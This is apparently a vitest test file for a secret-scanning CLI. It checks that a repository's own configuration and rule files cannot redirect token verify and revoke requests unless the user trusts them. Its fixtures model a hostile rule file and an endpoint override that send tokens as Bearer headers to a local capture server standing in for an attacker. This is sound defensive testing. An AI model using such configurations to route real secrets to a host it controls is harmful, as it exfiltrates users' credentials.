/**
 * A scanned repository cannot choose where its tokens are sent. Its own configuration's endpoint
 * overrides, and verify/revoke hosts added by rule files it names, count only when the user
 * trusted it (`tokenward trust`, by content); otherwise they are ignored with a warning naming
 * them. A capture server on 127.0.0.1 stands in for the attacker: it must see no connection at all,
 * from `scan --verify`, `verify`, `revoke` and the language server with verification on.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runCli, testTree } from '../helpers/cli.js';
import { githubToken } from '../helpers/tokens.js';
import { LspTestClient } from '../editor/lsp-client.js';
import { FAKES, type FakeProvider } from './fake-providers.js';
import { startCapture, type CaptureServer } from './helpers.js';

let capture: CaptureServer;
let legit: FakeProvider;
const stops: (() => Promise<unknown>)[] = [];

beforeEach(async () => {
  capture = await startCapture();
  legit = await FAKES.github().start();
  stops.push(() => capture.close(), () => legit.stop());
});
afterEach(async () => {
  for (const s of stops.splice(0).reverse()) await s();
});

/** A hostile rule file: any `acme_` token is "verified" and "revoked" at the capture host. */
const hostileRules = (port: number) => `provider: Acme
rules:
  - id: acme-token
    title: Acme token
    severity: high
    keywords: [acme_]
    pattern: '(acme_[a-z0-9]{24})'
    examples:
      positive: ['acme_abcdefghijklmnopqrstuvwx', 'acme_0123456789abcdefghijklmn']
      negative: ['acme_short']
    verify:
      origin: https://127.0.0.1:${port}
      steps:
        - { method: GET, path: /check, headers: { Authorization: 'Bearer {{secret}}' } }
    revoke:
      origin: https://127.0.0.1:${port}
      steps:
        - { method: DELETE, path: /tokens/self, headers: { Authorization: 'Bearer {{secret}}' } }
`;

/**
 * A repository whose .tokenward.yaml points GitHub's rule at the capture server (by rule id, which
 * outranks a provider-wide override) and names the hostile rule file; it holds one GitHub token and
 * one acme token. The user's own configuration (a fresh XDG_CONFIG_HOME) points GitHub at the
 * legitimate stand-in, so nothing ever goes to the real api.github.com.
 */
function hostileRepo(): { dir: string; env: NodeJS.ProcessEnv; gh: string; acme: string } {
  const gh = githubToken();
  const acme = 'acme_zq8w3k5m7n9p1r2t4v6x8y0b';
  legit.add(gh);
  const dir = testTree({
    '.tokenward.yaml': `rules: [tools/rules]\nrevoke:\n  endpoints:\n    github-pat-classic: http://127.0.0.1:${capture.port}\n`,
    'tools/rules/acme.yaml': hostileRules(capture.port),
    'deploy.env': `GITHUB_TOKEN=${gh}\nACME_TOKEN=${acme}\n`,
  });
  const xdg = testTree();
  mkdirSync(join(xdg, 'tokenward'));
  writeFileSync(join(xdg, 'tokenward/config.yaml'), `revoke:\n  endpoints:\n    github: ${legit.origin}\n`);
  return { dir, env: { XDG_CONFIG_HOME: xdg }, gh, acme };
}

describe('an untrusted repository configuration', () => {
  const commands: [string, string[]][] = [
    ['scan --verify', ['scan', '--verify', '--yes', '-f', 'json', '.']],
    ['verify', ['verify', '--yes', '.']],
    ['revoke', ['revoke', '--yes', '.']],
  ];
  for (const [name, args] of commands) {
    it(`${name}: the capture server receives nothing; the ignored keys are named`, async () => {
      const { dir, env, gh } = hostileRepo();
      const r = await runCli(args, { cwd: dir, env });
      expect(capture.connections).toBe(0);
      expect(r.stderr).toMatch(/\.tokenward\.yaml:\d+: revoke\.endpoints \(github-pat-classic\) ignored: a project's configuration cannot choose where tokens are sent unless you trust it; review it, then run "tokenward trust \.tokenward\.yaml"/);
      expect(r.stderr).toMatch(new RegExp(`verify/revoke steps of rules "acme-token" \\(127\\.0\\.0\\.1:${capture.port}\\) ignored`));
      // The legitimate endpoint, from the user's own configuration, is used.
      expect(legit.requests.length).toBeGreaterThan(0);
      expect(r.stdout + r.stderr).not.toContain(gh);
    });
  }

  it('the acme token is still found and reported (detection is not a network question)', async () => {
    const { dir, env } = hostileRepo();
    const r = await runCli(['scan', '-f', 'json', '.'], { cwd: dir, env });
    const inDeploy = JSON.parse(r.stdout).findings.filter((f: { path: string }) => f.path === 'deploy.env');
    expect(inDeploy.map((f: { ruleId: string }) => f.ruleId).sort()).toEqual(['acme-token', 'github-pat-classic']);
  });

  it('the language server with verification on sends nothing to the capture server', async () => {
    const { dir, env, gh } = hostileRepo();
    const c = await LspTestClient.start({ root: dir, settings: { verify: true }, env });
    stops.push(() => c.stop());
    const uri = pathToFileURL(join(dir, 'deploy.env')).href;
    await c.open(uri, `GITHUB_TOKEN=${gh}\nACME_TOKEN=acme_zq8w3k5m7n9p1r2t4v6x8y0b\n`);
    const diags = await c.diagnosticsFor(uri, (ds) => ds.some((d) => (d.data as { verified?: string } | undefined)?.verified === 'active'));
    expect(diags).toHaveLength(2);
    expect(legit.requests.some((q) => q.path === '/user')).toBe(true);
    expect(capture.connections).toBe(0);
    expect(c.messages.map((m) => m.message).join('\n')).toMatch(/revoke\.endpoints \(github-pat-classic\) ignored/);
  });
});

describe('tokenward trust', () => {
  it('records the file by content: then its endpoints count; any change ends the trust', async () => {
    const { dir, env } = hostileRepo();
    // Without the rule file, to keep the check about the endpoint.
    writeFileSync(join(dir, '.tokenward.yaml'), `revoke:\n  endpoints:\n    github-pat-classic: http://127.0.0.1:${capture.port}\n`);
    const t = await runCli(['trust'], { cwd: dir, env });
    expect(t.code).toBe(0);
    expect(t.stdout).toMatch(/Trusted \.tokenward\.yaml \(sha256 [0-9a-f]{16}…\)/);
    expect(t.stdout).toContain(`github-pat-classic → http://127.0.0.1:${capture.port}   (revoke.endpoints)`);
    const trusted = await runCli(['verify', '--yes', '--no-access', '--rule', 'github-pat-classic', '.'], { cwd: dir, env });
    expect(trusted.stdout).toContain(`override github-pat-classic=http://127.0.0.1:${capture.port} from .tokenward.yaml (trusted)`);
    expect(capture.connections).toBe(1);
    // One byte changed: trust is gone, the endpoint ignored again, and the warning says why.
    writeFileSync(join(dir, '.tokenward.yaml'), `revoke:\n  endpoints:\n    github-pat-classic: http://127.0.0.1:${capture.port}/\n`);
    const changed = await runCli(['verify', '--yes', '--no-access', '--rule', 'github-pat-classic', '.'], { cwd: dir, env });
    expect(changed.stderr).toMatch(/changed since you trusted it/);
    expect(capture.connections).toBe(1);
    const list = await runCli(['trust', '--list'], { cwd: dir, env });
    expect(list.stdout).toMatch(/\.tokenward\.yaml {2}changed since \(no longer trusted\)/);
    expect((await runCli(['trust', '--remove'], { cwd: dir, env })).stdout).toMatch(/No longer trusted/);
  });

  it('covers the rule files the configuration names: editing one ends the trust', async () => {
    const { dir, env } = hostileRepo();
    const t = await runCli(['trust'], { cwd: dir, env });
    expect(t.stdout).toMatch(new RegExp(`rule acme-token \\(tools/rules/acme\\.yaml\\): verify 127\\.0\\.0\\.1:${capture.port}, revoke 127\\.0\\.0\\.1:${capture.port}`));
    writeFileSync(join(dir, 'tools/rules/acme.yaml'), hostileRules(capture.port).replace('Acme token', 'Acme token (edited)'));
    const r = await runCli(['verify', '--yes', '--rule', 'acme-token', '.'], { cwd: dir, env });
    expect(r.stderr).toMatch(/verify\/revoke steps of rules "acme-token" .* ignored: .*changed since you trusted them/);
    expect(capture.connections).toBe(0);
  });
});
